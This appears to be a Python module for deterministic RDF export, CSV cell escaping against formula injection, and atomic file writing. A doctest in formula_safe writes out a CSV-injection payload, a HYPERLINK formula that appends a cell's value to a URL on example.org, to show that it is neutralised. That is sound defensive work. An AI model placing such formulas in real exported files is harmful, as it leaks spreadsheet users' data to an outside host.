"""Deterministic RDF export: the same data gives the same bytes, whatever the hash seed.

Blank nodes get canonical labels (``rdflib.compare``), statements are sorted, and files
are written atomically (a temporary file in the same folder, then a rename).

Examples
--------
>>> from rdflib import Dataset, URIRef, Literal
>>> ds = Dataset()
>>> _ = ds.graph(URIRef("urn:g")).add((URIRef("urn:s"), URIRef("urn:p"), Literal("o")))
>>> print(serialize_dataset(ds, "nq"), end="")
<urn:s> <urn:p> "o" <urn:g> .
"""

from __future__ import annotations

import contextlib
import functools
import json
import os
import re
import tempfile
from collections.abc import Callable
from pathlib import Path
from rdflib import BNode, Dataset, Graph, URIRef
from rdflib.compare import to_canonical_graph
from rdflib.plugins.serializers.nquads import _nq_row
from rdflib.plugins.serializers.nt import _nt_row

from .errors import OutputError, UnknownFormat
from .loading import default_graph

__all__ = ["EXPORT_FORMATS", "serialize_dataset", "write_atomically", "write_files_atomically", "remove_interrupted_writes", "canonical_graphs", "formula_safe", "undo_formula_safe", "csv_row"]

#: Export format names and what each keeps: True if named graphs survive.
EXPORT_FORMATS: dict[str, bool] = {"ttl": False, "trig": True, "nq": True, "nt": False, "jsonld": True}
_ALIASES = {"turtle": "ttl", "nquads": "nq", "ntriples": "nt", "json-ld": "jsonld"}


def canonical_graphs(dataset: Dataset, prefixes: dict[str, str] | None = None) -> list[Graph]:
    """Return the dataset's non-empty graphs, sorted by name, with blank nodes relabelled
    canonically and uniquely across graphs (``g<i>b<j>``)."""
    graphs = sorted(
        (g for g in dataset.graphs() if len(g)),
        key=lambda g: (not isinstance(g.identifier, URIRef), str(g.identifier)),
    )
    result = []
    for index, graph in enumerate(graphs):
        # Canonicalising asks many small questions of the graph: ask them in memory,
        # after one read of the graph from its store (which may be a remote server).
        local = Graph()
        local += graph
        canonical = to_canonical_graph(local)
        bnodes = sorted(
            {term for triple in canonical for term in triple if isinstance(term, BNode)}
        )
        rename = {b: BNode(f"g{index}b{number}") for number, b in enumerate(bnodes)}
        identifier = graph.identifier if isinstance(graph.identifier, URIRef) else None
        out = Graph(identifier=identifier)
        for prefix, iri in (prefixes or {}).items():
            out.bind(prefix, iri)
        for s, p, o in canonical:
            out.add((rename.get(s, s), p, rename.get(o, o)))
        result.append(out)
    return result


def _lines_nq(graphs: list[Graph], *, quads: bool) -> str:
    rows: set[str] = set()
    for graph in graphs:
        for triple in graph:
            if quads and graph.identifier is not None and isinstance(graph.identifier, URIRef):
                rows.add(_nq_row(triple, graph.identifier))
            else:
                rows.add(_nt_row(triple))
    return "".join(sorted(rows))


def _turtle(graphs: list[Graph], prefixes: dict[str, str]) -> str:
    union = Graph()
    for prefix, iri in prefixes.items():
        union.bind(prefix, iri)
    for graph in graphs:
        union += graph
    return union.serialize(format="longturtle")


def _trig(graphs: list[Graph], prefixes: dict[str, str]) -> str:
    declared: set[str] = set()
    blocks = []
    for graph in graphs:
        body = Graph()
        for prefix, iri in prefixes.items():
            body.bind(prefix, iri)
        body += graph
        lines = body.serialize(format="longturtle").splitlines()
        declared.update(ln for ln in lines if ln.startswith("PREFIX "))
        content = [ln for ln in lines if not ln.startswith("PREFIX ")]
        inner = "\n".join(("    " + ln) if ln.strip() else "" for ln in content).strip("\n")
        name = graph.identifier.n3() if graph.identifier is not None else ""
        blocks.append(f"{name} {{\n{inner}\n}}\n" if name else f"{{\n{inner}\n}}\n")
    header = "".join(f"{line}\n" for line in sorted(declared))
    return header + "\n" + "\n".join(blocks)


def _sort_json(value: object) -> object:
    if isinstance(value, dict):
        return {k: _sort_json(value[k]) for k in sorted(value)}
    if isinstance(value, list):
        items = [_sort_json(v) for v in value]
        return sorted(items, key=lambda v: json.dumps(v, sort_keys=True, ensure_ascii=False))
    return value


def _jsonld(graphs: list[Graph], prefixes: dict[str, str]) -> str:
    dataset = Dataset()
    for graph in graphs:
        target = dataset.graph(graph.identifier) if graph.identifier else default_graph(dataset)
        for triple in graph:
            target.add(triple)
    data = json.loads(dataset.serialize(format="json-ld", context=dict(sorted(prefixes.items()))))
    if isinstance(data, dict) and "@graph" in data:
        data["@graph"] = _sort_json(data["@graph"])
    else:
        data = _sort_json(data)
    return json.dumps(data, indent=2, ensure_ascii=False, sort_keys=True) + "\n"


def serialize_dataset(
    dataset: Dataset, format: str, *, prefixes: dict[str, str] | None = None
) -> str:
    """Serialize a dataset deterministically.

    Parameters
    ----------
    dataset : rdflib.Dataset
    format : str
        ``ttl`` (all graphs merged), ``trig`` (named graphs kept), ``nq`` (named graphs
        kept), ``nt`` (merged), ``jsonld`` (named graphs kept).
    prefixes : dict, optional
        Prefixes to use in Turtle, TriG and JSON-LD output.

    Raises
    ------
    UnknownFormat
    """
    name = _ALIASES.get(format.lower(), format.lower())
    writers: dict[str, Callable[[list[Graph], dict[str, str]], str]] = {
        "ttl": _turtle,
        "trig": _trig,
        "nq": lambda graphs, _: _lines_nq(graphs, quads=True),
        "nt": lambda graphs, _: _lines_nq(graphs, quads=False),
        "jsonld": _jsonld,
    }
    if name not in writers:
        raise UnknownFormat(
            f"unknown export format {format!r}; use one of {', '.join(EXPORT_FORMATS)}."
        )
    prefixes = prefixes or {}
    return writers[name](canonical_graphs(dataset, prefixes), prefixes)


# --------------------------------------------------------------------------- CSV cells

#: What a spreadsheet reads as the start of a formula (OWASP, "CSV Injection").
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
#: A formula start after any number of single quotes: what ``reversible`` neutralises.
_QUOTED_FORMULA_START = re.compile("'*[" + re.escape("".join(FORMULA_STARTS)) + "]")
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?", re.ASCII)


def formula_safe(text: str, *, reversible: bool = False) -> str:
    """``text`` as a spreadsheet shows it as text, never as a formula.

    A cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return
    gets a leading single quote, as OWASP recommends against CSV injection (the
    spreadsheet shows the quote; the rest is kept). A plain number such as ``-3.5``
    or ``+1e6`` is data, not a formula, and stays as it is.

    ``reversible`` makes the change one that :func:`undo_formula_safe` takes back
    exactly, for a file that is read again (the review folder of ``evkg suggest``): a
    cell that already starts with single quotes before one of those characters gets
    one quote more too, so that no original cell looks like a neutralised one.

    Examples
    --------
    >>> print(formula_safe('=HYPERLINK("http://example.org/?"&A1,"click")'))
    '=HYPERLINK("http://example.org/?"&A1,"click")
    >>> print(formula_safe("@SUM(A1)"), formula_safe(chr(9) + "=1") == "'" + chr(9) + "=1")
    '@SUM(A1) True
    >>> formula_safe("-3.5"), formula_safe("+12"), formula_safe("CATL"), formula_safe("")
    ('-3.5', '+12', 'CATL', '')
    >>> formula_safe("'=1+2"), formula_safe("'=1+2", reversible=True)
    ("'=1+2", "''=1+2")
    """
    starts = _QUOTED_FORMULA_START.match(text) if reversible else text.startswith(FORMULA_STARTS)
    if starts and not _PLAIN_NUMBER.fullmatch(text):
        return "'" + text
    return text


def undo_formula_safe(text: str) -> str:
    """``text`` as it was before :func:`formula_safe` with ``reversible=True``.

    One leading single quote comes off a cell that starts with quotes before ``=``,
    ``+``, ``-``, ``@``, a tab or a carriage return; any other cell stays as it is.
    ``undo_formula_safe(formula_safe(text, reversible=True)) == text`` for every text.

    Examples
    --------
    >>> undo_formula_safe("'=1+2"), undo_formula_safe("''=1+2"), undo_formula_safe("'quoted'")
    ('=1+2', "'=1+2", "'quoted'")
    >>> text = "'@A1"
    >>> undo_formula_safe(formula_safe(text, reversible=True)) == text
    True
    """
    if text.startswith("'") and _QUOTED_FORMULA_START.match(text):
        return text[1:]
    return text


def csv_row(cells, *, raw: bool = False, reversible: bool = False, delimiter: str = ",") -> str:
    """One CSV record, without its line end: every cell through :func:`formula_safe`
    (unless ``raw``; ``reversible`` as it takes it), a neutralised cell always in double
    quotes, other cells quoted only where they need it (as Python's ``csv`` module
    does); None is an empty cell.

    Examples
    --------
    >>> print(csv_row(["CATL", "=1+2", "a,b", 'a "b" c', None, "-3.5"]))
    CATL,"'=1+2","a,b","a ""b"" c",,-3.5
    >>> csv_row(["=1+2"], raw=True)
    '=1+2'
    """
    out = []
    for cell in cells:
        text = "" if cell is None else str(cell)
        safe = text if raw else formula_safe(text, reversible=reversible)
        if safe != text or any(c in safe for c in (delimiter, '"', "\r", "\n")):
            safe = '"' + safe.replace('"', '""') + '"'
        out.append(safe)
    if out == [""]:
        return '""'  # a lone empty cell, which an empty line would lose
    return delimiter.join(out)


def write_atomically(path: str | Path, text: str | bytes) -> Path:
    """Write ``text`` to ``path`` through a temporary file and a rename, so a reader never
    sees half a file and a failed write leaves the old file in place.

    Raises
    ------
    OutputError
        The folder does not exist or cannot be written.
    """
    path = Path(path)
    write_files_atomically({path: text})
    return path


def write_files_atomically(files: dict) -> list[Path]:
    """Write several files (path → text or bytes) as :func:`write_atomically` writes one:
    every file goes to a temporary file first, and only when all are written are they
    renamed into place, one after the other. An error or an interruption while writing
    leaves every old file as it was, rather than a new file beside an old one (the two
    files of a CSV export).

    Temporary files are ``.NAME.PID-XXXXXXXX.tmp`` beside their file. One left behind by
    a process that no longer runs (killed while writing) is removed by the next write of
    the same file, which says so on standard error (the ``evkg`` logger).

    Raises
    ------
    OutputError
        A folder does not exist or cannot be written.
    """
    paths = [Path(p) for p in files]
    for path in paths:
        folder = path.parent if str(path.parent) else Path(".")
        if not folder.is_dir():
            raise OutputError(f"{path}: the folder {folder} does not exist; create it first.")
        if path.is_dir():
            raise OutputError(f"{path}: is a folder; give a file name.")
    written: list[tuple[str, Path]] = []
    try:
        for path, text in zip(paths, files.values()):
            folder = path.parent if str(path.parent) else Path(".")
            remove_interrupted_writes(path)
            data = text.encode("utf-8") if isinstance(text, str) else text
            try:
                fd, tmp = tempfile.mkstemp(prefix=f".{path.name}.{os.getpid()}-", suffix=".tmp", dir=folder)
            except OSError as exc:
                raise OutputError(f"{path}: cannot write in {folder}: {exc.strerror}.") from None
            written.append((tmp, path))
            # mkstemp creates the file private (0600); give it the mode a plain open() would.
            if hasattr(os, "fchmod"):
                os.fchmod(fd, 0o666 & ~_umask())
            with os.fdopen(fd, "wb") as handle:
                handle.write(data)
        while written:
            tmp, path = written[0]
            os.replace(tmp, path)
            written.pop(0)
    except BaseException:
        for tmp, _ in written:
            with contextlib.suppress(OSError):
                os.unlink(tmp)
        raise
    return paths


#: A temporary file of write_files_atomically: ``.NAME.PID-XXXXXXXX.tmp`` (or, from
#: before the process id was in the name, ``.NAME.XXXXXXXX.tmp``).
_TEMPORARY = re.compile(r"\.(?P<name>.+)\.(?:(?P<pid>\d+)-)?[A-Za-z0-9_]{8}\.tmp")
#: How old a temporary file without a process id must be to count as left behind.
_ABANDONED_SECONDS = 600


def remove_interrupted_writes(path: str | Path) -> list[Path]:
    """Remove the temporary files that writes of ``path`` left beside it when their
    process was killed (its process no longer runs), saying so on standard error; the
    files removed.

    Examples
    --------
    >>> import tempfile
    >>> folder = Path(tempfile.mkdtemp())
    >>> _ = (folder / ".edges.csv.999999999-abcd1234.tmp").write_text("half")
    >>> [p.name for p in remove_interrupted_writes(folder / "edges.csv")]
    ['.edges.csv.999999999-abcd1234.tmp']
    """
    import logging
    import time

    path = Path(path)
    folder = path.parent if str(path.parent) else Path(".")
    removed = []
    try:
        entries = list(folder.glob(f".{_glob_escape(path.name)}.*.tmp"))
    except OSError:
        return removed
    for entry in entries:
        match = _TEMPORARY.fullmatch(entry.name)
        if not match or match["name"] != path.name:
            continue
        try:
            if match["pid"] is not None:
                if _running(int(match["pid"])):
                    continue
            elif time.time() - entry.stat().st_mtime < _ABANDONED_SECONDS:
                continue
            size = entry.stat().st_size
            entry.unlink()
        except OSError:
            continue
        removed.append(entry)
        who = f"process {match['pid']}" if match["pid"] else "a process"
        logging.getLogger("evkg").warning(
            f"{path}: removed {entry.name} ({size:,} bytes), left by a write of {path.name} that was "
            f"interrupted ({who} stopped before it finished); {path} is as that write found it."
        )
    return removed


def _glob_escape(name: str) -> str:
    """``name`` with the characters glob reads as patterns escaped."""
    import glob

    return glob.escape(name)


def _running(pid: int) -> bool:
    """Whether a process with this id runs (or may: one evkg cannot signal)."""
    if pid == os.getpid():
        return True
    try:
        os.kill(pid, 0)
    except ProcessLookupError:
        return False
    except (PermissionError, OverflowError, OSError):
        return True
    return True


@functools.lru_cache(maxsize=1)
def _umask() -> int:
    mask = os.umask(0o022)
    os.umask(mask)
    return mask
